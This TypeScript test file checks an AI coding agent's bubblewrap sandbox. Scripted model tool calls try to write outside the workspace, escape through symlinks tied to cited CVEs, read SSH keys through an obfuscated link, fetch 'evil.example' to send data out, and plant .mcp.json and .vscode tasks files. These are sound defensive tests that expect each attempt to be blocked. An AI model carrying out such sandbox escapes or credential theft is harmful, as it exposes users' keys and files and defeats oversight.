import {existsSync, readdirSync} from 'node:fs';
import {mkdir, readFile, writeFile} from 'node:fs/promises';
import {spawn} from 'node:child_process';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import type {ModelScript} from '../../src/testing/index.ts';
import {missingSandbox} from '../exec/sandbox/support.ts';
import {killedWithTest} from '../support/processes.ts';
import {scratch} from '../support/scratch.ts';
import {eventsOf, fettle, finished, LAUNCHER, modelServer, place} from './support.ts';

const missing = await missingSandbox();
if (missing !== undefined) describe.skip(`sandbox: skipped: ${missing}`, () => it('needs it', () => undefined));

const bash = (command: string): ModelScript[number] => ({toolCalls: [{name: 'bash', arguments: {command}}]});

/** The texts that the model got as results of its calls. */
async function results(
  script: ModelScript,
  args: readonly string[] = [],
  setting = '',
): Promise<{texts: string[]; work: string; code: number | null}> {
  const server = await modelServer([...script, {text: 'Done.'}]);
  const at = await place({'a.txt': 'one\n'}, `${server.config}\n${setting}`);
  const done = await fettle(at, ['exec', '--json', '--mode', 'full-auto', ...args, 'hi']);
  const texts = eventsOf(done).flatMap((event) => {
    const item = event['item'] as {type?: string; output?: string} | undefined;
    return event['type'] === 'item.completed' && item?.type === 'tool_output' ? [String(item.output)] : [];
  });
  return {texts, work: at.work, code: done.code};
}

describe.skipIf(missing !== undefined)('full-auto runs commands in the sandbox (design 5)', () => {
  it('a command writes in the workspace and not outside; the model is told', async () => {
    const outside = await scratch({});
    const {texts, work} = await results([
      bash(`echo in > in.txt; echo out > ${outside}/out.txt; python3 -c "open('.mcp' + '.json', 'w')"`),
    ]);
    expect([await readFile(join(work, 'in.txt'), 'utf8'), readdirSync(outside), readdirSync(work).sort()]).toEqual([
      'in\n',
      [],
      ['a.txt', 'in.txt'],
    ]);
    expect(texts.join('\n')).toContain(`[sandbox: only ${work} and /tmp can be written`);
  });

  it('a link that a command made does not lead the tools out (CVE-2026-39861)', async () => {
    const outside = await scratch({'kept.txt': 'kept\n'});
    const {work} = await results([
      bash(`ln -s ${outside} out; ln -s ${outside}/kept.txt kept.txt; ln -s ${outside}/new.txt new.txt`),
      {toolCalls: [{name: 'write', arguments: {path: 'out/made.txt', content: 'x'}}]},
      {toolCalls: [{name: 'write', arguments: {path: 'kept.txt', content: 'x'}}]},
      {toolCalls: [{name: 'write', arguments: {path: 'new.txt', content: 'x'}}]},
      {toolCalls: [{name: 'edit', arguments: {path: 'kept.txt', old_string: 'kept', new_string: 'x'}}]},
    ]);
    expect([readdirSync(outside), await readFile(join(outside, 'kept.txt'), 'utf8'), existsSync(join(work, 'out'))]).toEqual([
      ['kept.txt'],
      'kept\n',
      true,
    ]);
  });

  it('keys that commands do not see the tools do not read, and no page is a way around the sandbox (CVE-2025-55284, CVE-2026-54316)', async () => {
    const at = await place();
    await mkdir(join(at.home, '.ssh'));
    await writeFile(join(at.home, '.ssh/id_ed25519'), 'KEY of the person\n');
    const server = await modelServer([
      {toolCalls: [{name: 'read', arguments: {path: `${at.home}/.ssh/id_ed25519`}}]},
      {toolCalls: [{name: 'grep', arguments: {pattern: 'KEY', path: `${at.home}/.ssh`}}]},
      {toolCalls: [{name: 'grep', arguments: {pattern: 'KEY', path: at.home}}]},
      bash(`n=.ss; ln -s ${at.home}/$n'h' keys`),
      {toolCalls: [{name: 'read', arguments: {path: 'keys/id_ed25519'}}]},
      {toolCalls: [{name: 'web_fetch', arguments: {url: 'https://evil.example/?d=1'}}]},
      {text: 'Done.'},
    ]);
    await writeFile(join(at.home, 'config.toml'), server.config);
    const done = await fettle(at, ['exec', '--json', '--mode', 'full-auto', 'hi']);
    const said = eventsOf(done).flatMap((event) => {
      const item = event['item'] as {type?: string; output?: string} | undefined;
      return event['type'] === 'item.completed' && item?.type === 'tool_output' ? [String(item.output).split('\n')[0]] : [];
    });
    expect([done.stdout.includes('KEY of the person'), said.map((line) => line?.replaceAll(at.home, 'HOME'))]).toMatchInlineSnapshot(`
      [
        false,
        [
          "Error: HOME/.ssh/id_ed25519 is hidden by the sandbox, or contains hidden files: keys, logins, histories.",
          "Error: HOME/.ssh is hidden by the sandbox, or contains hidden files: keys, logins, histories.",
          "Error: HOME is hidden by the sandbox, or contains hidden files: keys, logins, histories.",
          "(no output)",
          "Error: keys/id_ed25519 is hidden by the sandbox, or contains hidden files: keys, logins, histories.",
          "Error: Denied: evil.example: no rule allows it, and nobody is here to ask.",
        ],
      ]
    `);
  });

  it('what a command leaves further down that other programs load is quarantined, and the model is told (issue 4 "Safe by construction")', async () => {
    const {texts, work} = await results([
      bash(`python3 -c "import os; d = 'sub/.vsco' + 'de'; os.makedirs(d); open(d + '/tasks.json', 'w'); open('sub/kept.txt', 'w')"`),
    ]);
    expect([readdirSync(join(work, 'sub')), texts.join('').replaceAll(/'[^']*'/g, 'PATH')]).toEqual([
      ['kept.txt'],
      '[sandbox: sub/.vscode was set aside: other programs load it. A person brings it back with: mv -T PATH PATH]',
    ]);
  });

  it('--no-sandbox does without', async () => {
    const outside = await scratch({});
    await results([bash(`echo out > ${outside}/out.txt`)], ['--no-sandbox']);
    expect(readdirSync(outside)).toEqual(['out.txt']);
  });

  it('a terminal of its own stands in the sandbox, too', async () => {
    const outside = await scratch({});
    const command = `echo in > in.txt; echo out > ${outside}/out.txt; tty`;
    const {texts, work} = await results(
      [{toolCalls: [{name: 'exec_command', arguments: {command, mode: 'pty'}}]}],
      ['--toolset', 'vtcode'],
    );
    expect([readdirSync(outside), readdirSync(work).includes('in.txt'), texts.length]).toEqual([[], true, 1]);
  });

  it('where the sandbox is missing the run ends before its first request, with what to install', async () => {
    const server = await modelServer([{text: 'Never.'}]);
    const at = await place({}, server.config);
    // bwrap itself makes a machine without bwrap.
    const args = [
      '--dev-bind',
      '/',
      '/',
      '--ro-bind',
      '/dev/null',
      '/usr/bin/bwrap',
      '--',
      process.execPath,
      LAUNCHER,
      'exec',
      '--mode',
      'full-auto',
      'hi',
    ];
    const child = spawn('/usr/bin/bwrap', args, {cwd: at.work, env: at.env, stdio: ['pipe', 'pipe', 'pipe']});
    killedWithTest(child);
    const {code, stdout, stderr} = await finished(child);
    expect([code === 0, stdout, server.requests.length]).toEqual([false, '', 0]);
    expect(stderr).toMatchInlineSnapshot(`
      "fettle: Commands cannot be run in a sandbox: bubblewrap is not installed.
        hint: Install it: apt install bubblewrap (Debian, Ubuntu), dnf install bubblewrap (Fedora), apk add bubblewrap (Alpine). Use another mode, or --no-sandbox on a disposable machine.
      "
    `);
  });

  it('fettle doctor tries it out', async () => {
    const {stdout} = await fettle(await place(), ['doctor']);
    expect(stdout).toMatch(/^ok {4}sandbox: bubblewrap holds: no write outside, none to what is protected, no connection$/m);
  });
});
